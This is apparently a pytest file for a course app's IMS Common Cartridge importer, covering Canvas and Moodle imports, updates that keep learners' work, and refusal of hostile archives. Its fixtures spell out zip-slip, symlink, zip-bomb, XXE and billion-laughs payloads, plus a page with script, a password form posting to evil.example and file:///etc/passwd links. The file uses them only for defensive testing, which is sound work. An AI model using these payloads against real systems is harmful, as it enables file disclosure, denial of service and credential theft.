"""IMS Common Cartridges written by others (../shared/real-courses, read in place) imported with the counts
their README implies, updated in place keeping the participant's work, and hostile ones refused by name
with nothing left behind."""

from __future__ import annotations

import json
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from companion.domain import bundle as b
from companion.domain.bundle import BundleError
from companion.domain.interchange import cartridge as cc
from companion.domain.interchange import report as rep
from companion.domain.interchange.html import clean_page, display_html
from companion.ui.words import bundle_refused, import_report

REAL = Path(__file__).resolve().parents[2] / "shared" / "real-courses"
if not REAL.is_dir():
    REAL = Path("/work/shared/real-courses")
CANVAS = REAL / "canvas-fixture-main.imscc"
CORNER = REAL / "cc2olx-corner-cases.imscc"
SAMPLE_10 = REAL / "ims-cc-1.0-sample.imscc"
needs_real = pytest.mark.skipif(not CANVAS.is_file(), reason="the shared real-courses folder is not here")


def materials(course):
    return [m for _l, m in course.materials()]


def skipped(report, reason):
    return sorted(s.title for s in report.skipped if s.reason == reason)


@needs_real
def test_the_canvas_course_comes_in_as_its_outline_says(app):
    imported = app.imports.import_cartridge(CANVAS)
    report = imported.report
    assert (imported.action, report.format_version) == ("added", "1.3")
    course = app.library.course(report.course_id)
    # two modules under the root item; the 30 items below them, in order, as their parts
    assert [lec.title for lec in course.lectures] == ["Sequence", "Sequence2"]
    first, second = course.lectures
    assert [m.title for m in first.materials][:4] == ["Vertical", "LTI", "LTI no secure launch URL", "Discussion Topic"]
    assert len(first.materials) == 18 and len(second.materials) == 5  # + 2 quizzes and 2 assignments beside them
    # Canvas's sub-headers are headings of the parts after them
    assert [m.section for m in second.materials] == ["", "Sub Header 1", "Sub Header 2", "Sub Header 2", "Sub Header 2"]
    kinds = [m.kind for m in materials(course)]
    # 10 webcontent resources: 9 come in (a page whose file the cartridge lacks is named in the report)
    assert kinds.count("html") == 9 and kinds.count("pdf") == 2 and kinds.count("image") == 1
    assert report.counts[rep.PAGES] == 6  # distinct pages (one is shown by four items)
    assert skipped(report, rep.FILE_MISSING) == ["module-|-introduction.html"]
    # 7 web links: 6 absolute ones, and one relative to the platform's own site, listed as on the platform
    assert report.counts[rep.LINKS] == 6 and kinds.count("link") == 6
    # 3 LTI links (one reached through Canvas's module_meta.xml) plus that web link: all listed with their link
    platform = [m for m in materials(course) if m.kind == "platform"]
    assert len(platform) == report.counts[rep.ON_PLATFORM] == 4
    assert {v.url for m in platform for v in m.variants} == {"https://lti.local/launch", "https://lti.local/start",
                                                             "https://example.com/lit/launch"}
    assert len(skipped(report, rep.NEEDS_PLATFORM)) == 4
    # the discussion is readable offline
    (topic,) = [m for m in materials(course) if m.kind == "topic"]
    assert "70 thousand" in topic.text and report.counts[rep.TOPICS] == 1
    # 2 Canvas assignments, with their points
    assert [(a.title, a.points) for a in course.assignments] == [
        ("Assignment 1. University education scope essay", 30.0),
        ("Assignment 2. Television role in education composition", None)]
    assert "Discuss both perspectives" in course.assignments[0].instructions
    # 2 QTI assessments: one quiz with its 7 questions (CC profiles read by the QTI reader), one with no items
    (quiz,) = course.quizzes
    assert (quiz.title, quiz.lecture_id, quiz.max_attempts) == ("QTI", first.id, 1)
    assert report.questions_by_type() == {"essay": 2, "multiple_choice": 1, "short_answer": 2, "single_choice": 1,
                                          "true_false": 1}
    assert skipped(report, rep.EMPTY) == ["QTI No Items"] and report.counts[rep.QUIZZES] == 1
    # the first question's image is kept from web_resources/ (Canvas's $IMS-CC-FILEBASE$)
    image = quiz.questions[0].images[0].path
    assert image == "cc/web_resources/QuizImages/fractal.jpg"
    assert course.time_zone == "UTC" and course.starts_on.isoformat() == "2018-09-17"
    # every kept file has its size and sha256, and the page's image is kept beside it
    folder = app.library.package_dir(course.id)
    vertical = first.materials[0]
    assert [a.path for a in vertical.assets] == ["cc/web_resources/QuizImages/fractal.jpg"]
    for m in materials(course):
        for item in (*m.variants, *m.assets):
            if item.path:
                assert (folder / item.path).stat().st_size == item.size and len(item.sha256) == 64
    page = (folder / vertical.variants[0].path).read_text(encoding="utf-8")
    assert 'src="web_resources/QuizImages/fractal.jpg"' in page and "IMS-CC-FILEBASE" not in page
    iframe = (folder / "cc/iframe.html").read_text(encoding="utf-8")
    assert "<iframe" not in iframe and 'href="https://cdnapisec.kaltura.com/' in iframe  # the frame: a link
    text = import_report(report)
    assert "Added 'Course'" in text and "2 lectures" in text and "module-|-introduction.html" in text


@needs_real
def test_the_corner_cases_degrade_gracefully(app):
    report = app.imports.import_cartridge(CORNER).report
    course = app.library.course(report.course_id)
    assert course.title == "Corner cases Common Cartridge" and [x.title for x in course.lectures] == ["Wild animals world"]
    by_title = {m.title: m for m in materials(course)}
    # 2 resources of an unknown type: listed as on the platform, and named in the report with their type
    assert by_title["Unknown content"].kind == by_title["Unknown content with link"].kind == "platform"
    assert {s.data.get("type") for s in report.skipped if s.reason == rep.TYPE_NOT_SUPPORTED} >= {"imsunknwn_xmlv1p3"}
    # the .txt webcontent is kept as a file, shown as text
    assert by_title["Survival Strategies: How Wild Animals Avoid Predators"].kind == "file"
    # the page whose file is not in the cartridge is named
    assert skipped(report, rep.FILE_MISSING) == ["Migration Patterns: Why Animals Travel Long Distances"]
    # the made-up QTI profile gives no quiz, and says so
    assert not course.quizzes
    assert [s.data.get("type") for s in report.skipped if s.kind == "question"] == ["cc.strange.v0p1"]
    assert skipped(report, rep.EMPTY) == ["Clusterization"]


@needs_real
def test_a_cc_1_0_package_with_no_outline_keeps_every_resource(app):
    report = app.imports.import_cartridge(SAMPLE_10).report
    assert report.format_version == "1.0"
    course = app.library.course(report.course_id)
    (lecture,) = course.lectures
    assert lecture.extra  # the resources no outline reaches, in one lecture rather than dropped
    page, audio = lecture.materials
    assert (page.kind, page.title, [a.path for a in page.assets]) == ("html", "Sample HTML File",
                                                                      ["cc/images/image_0001.gif"])
    assert audio.kind == "audio"
    # the .forum and .qti files are 86-byte HTML placeholders: named as unreadable, not crashing
    assert skipped(report, rep.UNREADABLE) == ["quiz_1.qti", "studymate.qti", "welcome.forum"]


def _rezip(source: Path, target: Path, change: dict[str, bytes | None]) -> Path:
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in change:
                if change[info.filename] is not None:
                    zout.writestr(info, change.pop(info.filename))
                else:
                    change.pop(info.filename)
                continue
            zout.writestr(info, zin.read(info))
        for name, data in change.items():
            zout.writestr(name, data)
    return target


@needs_real
def test_importing_again_updates_in_place_and_keeps_the_participants_work(app, tmp_path):
    first = app.imports.import_cartridge(CANVAS)
    course_id = first.report.course_id
    assignment = app.library.course(course_id).assignments[0]
    app.assignments.save_draft(course_id, assignment.id, {"text": "My essay on universities."})
    submitted = app.assignments.submit(course_id, assignment.id)
    app.store.save_draft(course_id, app.library.course(course_id).assignments[1].id, {"text": "draft"}, app.clock.now())
    quiz = app.library.course(course_id).quizzes[0]
    attempt = app.quizzes.start(course_id, quiz.id)
    app.quizzes.answer(attempt.id, "question_boolean", ["true"])
    again = app.imports.import_cartridge(CANVAS)
    assert (again.action, again.version) == ("unchanged", 1)
    with zipfile.ZipFile(CANVAS) as z:
        page = z.read("vertical.html").replace(b"Fractal Image <a", b"A fractal, revised <a")
    changed = _rezip(CANVAS, tmp_path / "v2.imscc", {"vertical.html": page})
    updated = app.imports.import_cartridge(changed)
    assert (updated.action, updated.version, updated.previous_version) == ("updated", 2, 1)
    assert "kept" in import_report(updated.report)
    folder = app.library.package_dir(course_id)
    assert "A fractal, revised" in (folder / "cc/vertical.html").read_text(encoding="utf-8")
    assert [s.id for s in app.outbox.items(course_id)] == [submitted.id]
    assert app.store.get_draft(course_id, app.library.course(course_id).assignments[1].id)[0] == {"text": "draft"}
    assert app.quizzes.open_attempt(course_id, quiz.id).answers["question_boolean"] == ("true",)
    assert sorted(p.name for p in (app.data_dir / "courses").iterdir()) == [f"{course_id}-v2"]


@needs_real
@pytest.mark.parametrize("language, head", [("es", "Se añadió «Course» desde un IMS Common Cartridge 1.3."),
                                            ("ko", "IMS Common Cartridge 1.3에서 'Course'을(를) 추가했습니다.")])
def test_the_command_line_reports_in_the_participants_language(tmp_path, language, head):
    import os

    env = {**os.environ, "LANGUAGE": language}
    run = subprocess.run([sys.executable, "-m", "companion", "--data-dir", str(tmp_path / "d"), "courses", "add",
                          str(CORNER)], capture_output=True, text=True, timeout=120, env=env)
    assert run.returncode == 0, run.stderr
    lines = run.stdout.splitlines()
    assert lines[0] == head.replace("Course", "Corner cases Common Cartridge")
    assert "imsunknwn_xmlv1p3" in run.stdout and "Added" not in run.stdout and "platform" not in run.stdout


@needs_real
def test_the_command_line_prints_the_report_as_json(tmp_path):
    run = subprocess.run([sys.executable, "-m", "companion", "--data-dir", str(tmp_path / "d"), "courses", "--json",
                          "add", str(CANVAS)], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    data = json.loads(run.stdout)
    assert data["format"] == "imscc" and data["action"] == "added"
    assert data["counts"]["lectures"] == 2 and data["counts"]["links"] == 6 and data["counts"]["on_platform"] == 4
    assert {"title": "LTI", "kind": "lti", "reason": rep.NEEDS_PLATFORM, "url": "https://lti.local/launch"} in data["skipped"]


# ---- hostile cartridges ----
MANIFEST = b"""<?xml version="1.0"?>
<manifest identifier="hostile" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1">
 <organizations><organization identifier="o"><item identifier="root">
  <item identifier="m1"><title>Module</title><item identifier="i1" identifierref="r1"><title>Page</title></item></item>
 </item></organization></organizations>
 <resources><resource identifier="r1" type="webcontent" href="page.html"><file href="page.html"/></resource></resources>
</manifest>"""
HOSTILE_PAGE = b"""<html><body><p>Read me</p><script>alert(1)</script><iframe src="https://evil.example/x"></iframe>
<form action="https://evil.example/post"><input name="password"><button>Send</button></form>
<img src="https://evil.example/track.png"><img src="file:///etc/passwd"><img src="../../../../etc/hostname">
<a href="file:///etc/passwd">local</a><a href="javascript:alert(1)">js</a><p onclick="alert(1)" style="background:url(https://evil.example/b)">x</p>
<a href="https://example.org/more">more</a></body></html>"""


def _zip(path: Path, entries: dict[str, bytes], *, symlink: str | None = None,
         method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return path


def hostile_cartridges(folder: Path) -> dict[str, tuple[Path, str, str]]:
    folder.mkdir()
    laughs = (b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><manifest>&c;</manifest>')
    external = (b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                b'<manifest identifier="x"><resources>&x;</resources></manifest>')
    bomb = folder / "bomb.imscc"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("imsmanifest.xml", MANIFEST)
        zf.writestr("page.html", b"\0" * (40 << 20))
    damaged = _zip(folder / "damaged.imscc", {"imsmanifest.xml": MANIFEST, "page.html": b"<p>" + b"lesson " * 200 + b"</p>"},
                   method=zipfile.ZIP_STORED)
    raw = bytearray(damaged.read_bytes())
    at = raw.index(b"lesson lesson")
    raw[at:at + 6] = b"LESSON"  # the bytes change, the zip's CRC does not
    damaged.write_bytes(bytes(raw))
    huge = MANIFEST.replace(b"<resources>", b"<resources>" + b"<!--" + b"x" * (cc.MAX_MANIFEST_BYTES + 10) + b"-->")
    return {
        "zip-slip": (_zip(folder / "slip.imscc", {"imsmanifest.xml": MANIFEST, "../escaped.txt": b"x"}),
                     b.UNSAFE_PATH, "points outside"),
        "absolute": (_zip(folder / "abs.imscc", {"imsmanifest.xml": MANIFEST, "/tmp/absolute.txt": b"x"}),
                     b.ABSOLUTE_PATH, "absolute path"),
        "symlink": (_zip(folder / "link.imscc", {"imsmanifest.xml": MANIFEST}, symlink="page.html"),
                    b.SYMLINK, "symbolic link"),
        "bomb": (bomb, b.ZIP_BOMB, "times its packed size"),
        "huge manifest": (_zip(folder / "huge.imscc", {"imsmanifest.xml": huge}, method=zipfile.ZIP_STORED), cc.MANIFEST_TOO_LARGE, "limit"),
        "billion laughs": (_zip(folder / "laughs.imscc", {"imsmanifest.xml": laughs}), cc.XML_FORBIDDEN, "entities"),
        "external entity": (_zip(folder / "xxe.imscc", {"imsmanifest.xml": external}), cc.XML_FORBIDDEN, "entities"),
        "damaged member": (damaged, b.ALTERED, "altered or damaged"),
        "no manifest": (_zip(folder / "none.imscc", {"page.html": b"<p>x</p>"}), cc.NOT_A_CARTRIDGE, "imsmanifest.xml"),
        "not xml": (_zip(folder / "notxml.imscc", {"imsmanifest.xml": b"<manifest"}), cc.BAD_MANIFEST, "cannot be read"),
        "not a zip": (_write(folder / "text.imscc", b"hello"), cc.NOT_A_CARTRIDGE, "not a course cartridge"),
        "truncated": (_write(folder / "cut.imscc", _zip(folder / "whole.zip", {"imsmanifest.xml": MANIFEST,
                                                                                "page.html": b"<p>x</p>" * 999}
                                                         ).read_bytes()[:300]), b.TRUNCATED, "incomplete"),
    }


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def test_every_hostile_cartridge_is_refused_by_name_and_leaves_nothing(app, tmp_path):
    before = app.library.known_ids()
    for name, (path, code, word) in hostile_cartridges(tmp_path / "bad").items():
        with pytest.raises(BundleError) as caught:
            app.imports.import_cartridge(path)
        assert caught.value.code == code, name
        message = bundle_refused(caught.value)
        assert message.startswith("Nothing was imported.") and word in message and "\n" not in message, (name, message)
    assert not (tmp_path / "escaped.txt").exists()
    assert app.library.known_ids() == before
    assert not list((app.data_dir / ".incoming").iterdir())
    assert not (app.data_dir / "courses").exists() or not list((app.data_dir / "courses").iterdir())


def test_a_hostile_page_is_kept_and_shown_without_its_dangers(app, tmp_path):
    path = _zip(tmp_path / "page.imscc", {"imsmanifest.xml": MANIFEST, "page.html": HOSTILE_PAGE})
    report = app.imports.import_cartridge(path).report
    course = app.library.course(report.course_id)
    (page,) = materials(course)
    kept = (app.library.package_dir(course.id) / page.variants[0].path).read_text(encoding="utf-8")
    for danger in ("<script", "alert(", "<form", "<input", "<iframe", "evil.example/track", "file:", "javascript:",
                   "onclick", "url(", "etc/hostname"):
        assert danger not in kept, danger
    assert "Read me" in kept and 'href="https://evil.example/x"' in kept  # the frame became a plain link
    shown = display_html(kept, " [online]")
    assert 'href="https://example.org/more" rel="noopener noreferrer nofollow">more</a> [online]' in shown


def test_a_page_file_the_cartridge_lacks_is_named_and_the_rest_comes_in(app, tmp_path):
    manifest = MANIFEST.replace(b"</resources>", b'<resource identifier="r2" type="webcontent"><file href="gone.pdf"/>'
                                                 b"</resource></resources>").replace(
        b"</item></item>", b'</item><item identifier="i2" identifierref="r2"><title>Slides</title></item></item>')
    path = _zip(tmp_path / "missing.imscc", {"imsmanifest.xml": manifest, "page.html": b"<p>hello</p>"})
    report = app.imports.import_cartridge(path).report
    assert [(s.title, s.reason, s.data["path"]) for s in report.skipped] == [("Slides", rep.FILE_MISSING, "gone.pdf")]
    assert [m.title for m in materials(app.library.course(report.course_id))] == ["Page"]
    assert "gone.pdf" in import_report(report)


def test_clean_page_resolves_the_platforms_placeholders():
    names = {"web_resources/a b.png", "wiki_content/intro.html", "docs/page.html"}
    text = ('<img src="%24IMS-CC-FILEBASE%24/a%20b.png"><a href="$WIKI_REFERENCE$/pages/intro">w</a>'
            '<a href="$CANVAS_OBJECT_REFERENCE$/quizzes/1">q</a><a href="/courses/1/files">f</a>')
    cleaned, used, platform = clean_page(text, "docs/page.html", names.__contains__)
    assert used == {"web_resources/a b.png", "wiki_content/intro.html"} and platform == 2
    assert 'src="../web_resources/a%20b.png"' in cleaned and 'href="../wiki_content/intro.html"' in cleaned


@needs_real
def test_the_offline_search_finds_pages_pdfs_questions_and_topics(app):
    course_id = app.imports.import_cartridge(CANVAS).report.course_id

    def kinds(text):
        return {(h.kind, h.title) for h in app.search.search(text, course_id)}

    assert ("notes", "Vertical") in kinds("Fractal Image")  # a page kept in the package
    assert ("topic", "Discussion Topic") in kinds("standard form")  # the discussion's text
    assert any(k == "question" for k, _t in kinds("largest city Switzerland"))  # a quiz question
    assert ("pdf", "PDF from Web Resources") in kinds("Example PDF File")  # a PDF kept in the package


CANVAS_STYLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="g1" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1">
 <organizations><organization identifier="o" structure="rooted-hierarchy"><item identifier="LearningModules">
  <item identifier="m1"><title>Week 1</title>
   <item identifier="a1i" identifierref="a1"><title>Write a memo</title></item></item>
 </item></organization></organizations>
 <resources>
  <resource identifier="settings" type="associatedcontent/imscc_xmlv1p1/learning-application-resource"
            href="course_settings/canvas_export.txt"><file href="course_settings/course_settings.xml"/></resource>
  <resource identifier="a1" type="associatedcontent/imscc_xmlv1p1/learning-application-resource"
            href="a1/write-a-memo.html"><file href="a1/write-a-memo.html"/><file href="a1/assignment_settings.xml"/></resource>
 </resources></manifest>"""
CANVAS_SETTINGS = b"""<course xmlns="http://canvas.instructure.com/xsd/cccv1p0"><title>Memo course</title>
 <time_zone>Europe/Madrid</time_zone><start_at>2024-02-28T23:30:00</start_at><conclude_at>2024-06-30T21:59:59</conclude_at></course>"""
CANVAS_ASSIGNMENT = b"""<assignment xmlns="http://canvas.instructure.com/xsd/cccv1p0" identifier="a1"><title>Write a memo</title>
 <due_at>2024-03-05T22:59:59</due_at><points_possible>25.0</points_possible><submission_types>online_text_entry</submission_types></assignment>"""


def test_canvas_dates_are_kept_in_the_course_zone(app, tmp_path):
    path = _zip(tmp_path / "canvas.imscc", {"imsmanifest.xml": CANVAS_STYLE,
                                              "course_settings/course_settings.xml": CANVAS_SETTINGS,
                                              "course_settings/canvas_export.txt": b"", "a1/assignment_settings.xml":
                                              CANVAS_ASSIGNMENT,
                                              "a1/write-a-memo.html": b"<html><body><p>Two pages, plain words.</p></body></html>"})
    report = app.imports.import_cartridge(path).report
    course = app.library.course(report.course_id)
    (assignment,) = course.assignments
    assert (assignment.title, assignment.points, assignment.instructions) == ("Write a memo", 25.0,
                                                                            "Two pages, plain words.")
    # Canvas writes UTC: 22:59 UTC on 5 March is 23:59 in Madrid (CET), the course's zone
    assert (assignment.due.time_zone, assignment.due.local.isoformat()) == ("Europe/Madrid", "2024-03-05T23:59:00")
    assert course.time_zone == "Europe/Madrid" and course.title == "Memo course"
    assert (course.starts_on.isoformat(), course.ends_on.isoformat()) == ("2024-02-29", "2024-06-30")
    assert report.counts[rep.DATES] == 1 and report.counts[rep.ASSIGNMENTS] == 1


def test_a_topic_keeps_its_images_and_attachments(app, tmp_path):
    manifest = MANIFEST.replace(b'identifierref="r1"', b'identifierref="t1"').replace(
        b"</resources>", b'<resource identifier="t1" type="imsdt_xmlv1p1"><file href="forum/topic.xml"/>'
                         b'<dependency identifierref="t1f"/></resource><resource identifier="t1f" '
                         b'type="associatedcontent/imscc_xmlv1p1/learning-application-resource">'
                         b'<file href="forum/notes.pdf"/></resource></resources>')
    topic = (b'<topic xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imsdt_v1p1"><title>Say hello</title>'
             b'<text texttype="text/html">&lt;p&gt;Tell us &lt;img src="img/wave.png"&gt;&lt;/p&gt;</text>'
             b'<attachments><attachment href="notes.pdf"/></attachments></topic>')
    path = _zip(tmp_path / "topic.imscc", {"imsmanifest.xml": manifest, "page.html": b"<p>x</p>",
                                             "forum/topic.xml": topic, "forum/img/wave.png": b"png",
                                             "forum/notes.pdf": b"%PDF-1.4"})
    report = app.imports.import_cartridge(path).report
    (material,) = [m for m in materials(app.library.course(report.course_id)) if m.kind == "topic"]
    assert material.title == "Say hello"
    # kept in course.json, its image is addressed from the package's folder
    assert 'src="cc/forum/img/wave.png"' in material.text
    assert [a.path for a in material.assets] == ["cc/forum/img/wave.png", "cc/forum/notes.pdf"]
    folder = app.library.package_dir(report.course_id)
    assert all((folder / a.path).is_file() for a in material.assets)


MOODLE_STYLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="M_1" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1"
          xmlns:lomimscc="http://ltsc.ieee.org/xsd/imsccv1p1/LOM/manifest">
 <metadata><schema>IMS Common Cartridge</schema><schemaversion>1.1.0</schemaversion>
  <lomimscc:lom><lomimscc:general><lomimscc:title><lomimscc:string>Urban care 101</lomimscc:string></lomimscc:title>
  </lomimscc:general></lomimscc:lom></metadata>
 <organizations><organization identifier="O_1" structure="rooted-hierarchy"><item identifier="I_1">
  <item identifier="I_2"><title>Topic 1</title>
   <item identifier="I_3" identifierref="R_1"><title>Reading</title></item>
   <item identifier="I_4" identifierref="R_2"><title>Introduce yourself</title></item>
   <item identifier="I_5" identifierref="R_3"><title>City data portal</title></item>
   <item identifier="I_6" identifierref="R_4"><title>Open data</title></item></item>
 </item></organization></organizations>
 <resources>
  <resource identifier="R_1" type="webcontent" href="i_aa/reading.html"><file href="i_aa/reading.html"/>
   <dependency identifierref="R_9"/></resource>
  <resource identifier="R_9" type="webcontent"><file href="i_bb/street.png"/></resource>
  <resource identifier="R_2" type="imsdt_xmlv1p1"><file href="i_cc/forum.xml"/><dependency identifierref="R_9"/></resource>
  <resource identifier="R_3" type="imswl_xmlv1p1"><file href="i_dd/weblink.xml"/></resource>
  <resource identifier="R_4" type="webcontent" href="https://www.example.org/open-data.html"/>
 </resources></manifest>"""


def test_a_moodle_style_cartridge(app, tmp_path):
    """Laid out as Moodle's exporter writes (backup/cc): a folder per item, pages linking '../i_x/file',
    forum text with '$IMS-CC-FILEBASE$../i_x/file'."""
    forum = (b'<topic xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imsdt_v1p1"><title>Introduce yourself</title>'
             b'<text texttype="text/html">&lt;p&gt;Hello &lt;img src="$IMS-CC-FILEBASE$../i_bb/street.png"&gt;'
             b'&lt;/p&gt;</text></topic>')
    link = (b'<webLink xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imswl_v1p1"><title>City data portal</title>'
            b'<url href="https://data.example.org/" target="_self"/></webLink>')
    path = _zip(tmp_path / "moodle.imscc", {"imsmanifest.xml": MOODLE_STYLE, "i_bb/street.png": b"png",
                                              "i_aa/reading.html": b'<html><body><p>Read</p><img src="../i_bb/street.png">'
                                                                   b"</body></html>",
                                              "i_cc/forum.xml": forum, "i_dd/weblink.xml": link})
    report = app.imports.import_cartridge(path).report
    assert (report.format_version, report.course_title) == ("1.1", "Urban care 101")
    course = app.library.course(report.course_id)
    (lecture,) = course.lectures
    reading, topic, weblink, elsewhere = lecture.materials
    assert (lecture.title, reading.kind, topic.kind, weblink.kind) == ("Topic 1", "html", "topic", "link")
    assert (elsewhere.kind, elsewhere.variants[0].url) == ("link", "https://www.example.org/open-data.html")
    assert [a.path for a in reading.assets] == ["cc/i_bb/street.png"]
    page = (app.library.package_dir(course.id) / reading.variants[0].path).read_text(encoding="utf-8")
    assert 'src="../i_bb/street.png"' in page
    assert 'src="cc/i_bb/street.png"' in topic.text and weblink.variants[0].url == "https://data.example.org/"
    assert not report.skipped


@needs_real
def test_a_canvas_style_qti_zip_read_as_a_cartridge_gives_its_quiz(app):
    """text2qti writes a Canvas quiz export: a manifest with no outline and one 'imsqti_xmlv1p2' resource."""
    report = app.imports.import_cartridge(REAL / "text2qti-geometry-quiz.zip").report
    course = app.library.course(report.course_id)
    (quiz,) = course.quizzes
    assert len(quiz.questions) == 4 and report.counts[rep.QUIZZES] == 1
    assert report.questions_by_type() == {"multiple_choice": 1, "numerical": 1, "single_choice": 1, "true_false": 1}
    assert course.lecture(quiz.lecture_id).extra and not report.skipped


def test_an_outline_too_long_or_too_deep_is_cut_and_said_so(app, tmp_path):
    items = "".join(f'<item identifier="i{n}" identifierref="r1"><title>Page {n}</title></item>'
                    for n in range(cc.MAX_PARTS + 20))
    deep = "".join(f'<item identifier="d{n}"><title>Level {n}</title>' for n in range(cc.MAX_DEPTH + 5)) + \
        '<item identifier="leaf" identifierref="r1"><title>Deep page</title></item>' + "</item>" * (cc.MAX_DEPTH + 5)
    manifest = MANIFEST.decode().replace(
        '<item identifier="i1" identifierref="r1"><title>Page</title></item>', items).replace(
        '<item identifier="m1">', f'<item identifier="m0"><title>Deep</title>{deep}</item><item identifier="m1">')
    path = _zip(tmp_path / "long.imscc", {"imsmanifest.xml": manifest.encode(), "page.html": b"<p>x</p>"})
    report = app.imports.import_cartridge(path).report
    course = app.library.course(report.course_id)
    assert len(materials(course)) == cc.MAX_PARTS
    cut = [s for s in report.skipped if s.reason == rep.TOO_MANY]
    assert [s.data.get("what") for s in cut] == ["depth", None] and cut[1].data["count"] == 20
    text = import_report(report)
    assert "20 more items beyond the limit of 5,000 parts were left out" in text
    assert "nested more than 40 deep were left out" in text


def test_a_full_disk_is_named_before_anything_is_written(app, tmp_path):
    path = _zip(tmp_path / "page.imscc", {"imsmanifest.xml": MANIFEST, "page.html": b"<p>" + b"x" * 5000 + b"</p>"})
    with pytest.raises(BundleError) as caught:
        app.imports.import_cartridge(path, free_bytes=lambda: 10 << 20)
    assert caught.value.code == b.NO_SPACE and "There is not enough free disk space" in bundle_refused(caught.value)
    assert not list((app.data_dir / ".incoming").iterdir()) and not (app.data_dir / "courses").exists()


@needs_real
def test_canvas_non_cc_assessments_stand_in_when_the_cc_copy_gives_nothing(app, tmp_path):
    with zipfile.ZipFile(CANVAS) as z:
        empty = z.read("resource_4_qti_no_items/assessment_qti.xml")
    changed = _rezip(CANVAS, tmp_path / "noncc.imscc", {"resource_4_qti/assessment_qti.xml": empty})
    report = app.imports.import_cartridge(changed).report
    (quiz,) = app.library.course(report.course_id).quizzes
    assert quiz.title == "QTI" and report.questions_by_type() == {"single_choice": 1}  # Canvas's own copy


def test_two_courses_sharing_a_generators_short_identifier_stay_two(app, tmp_path):
    def titled(title: str) -> bytes:
        return MANIFEST.replace(b"<organizations>", b'<metadata><lom xmlns="http://ltsc.ieee.org/xsd/imsccv1p1/LOM/'
                                                    b'manifest"><general><title><string>' + title.encode() +
                                b"</string></title></general></lom></metadata><organizations>")
    first = app.imports.import_cartridge(_zip(tmp_path / "a.imscc", {"imsmanifest.xml": titled("Water"),
                                                                     "page.html": b"<p>a</p>"}))
    second = app.imports.import_cartridge(_zip(tmp_path / "b.imscc", {"imsmanifest.xml": titled("Housing"),
                                                                      "page.html": b"<p>b</p>"}))
    assert first.report.course_id != second.report.course_id and second.action == "added"
    assert {c.title for c in app.library.courses()} >= {"Water", "Housing"}


def test_the_default_organization_and_items_that_show_a_resource_and_hold_items(app, tmp_path):
    manifest = b"""<?xml version="1.0"?>
<manifest identifier="two-organizations-example" xmlns="http://www.imsglobal.org/xsd/imsccv1p2/imscp_v1p1">
 <organizations default="main">
  <organization identifier="other"><item identifier="x"><item identifier="xm"><title>Not this one</title>
   <item identifier="xi" identifierref="r1"><title>Other</title></item></item></item></organization>
  <organization identifier="main"><item identifier="root">
   <item identifier="m1" identifierref="r1"><title>Overview</title>
    <item identifier="i2" identifierref="r2"><title>Folder page</title>
     <item identifier="i3" identifierref="r3"><title>Inner page</title></item></item></item>
  </item></organization></organizations>
 <resources>
  <resource identifier="r1" type="webcontent" href="a.html"><file href="a.html"/></resource>
  <resource identifier="r2" type="webcontent" href="b.html"><file href="b.html"/></resource>
  <resource identifier="r3" type="webcontent" href="c.html"><file href="c.html"/></resource>
 </resources></manifest>"""
    path = _zip(tmp_path / "orgs.imscc", {"imsmanifest.xml": manifest, "a.html": b"<p>a</p>", "b.html": b"<p>b</p>",
                                            "c.html": b"<p>c</p>"})
    report = app.imports.import_cartridge(path).report
    assert report.format_version == "1.2"
    (lecture,) = app.library.course(report.course_id).lectures
    assert lecture.title == "Overview"
    assert [(m.title, m.section) for m in lecture.materials] == [("Overview", ""), ("Folder page", ""),
                                                                  ("Inner page", "Folder page")]
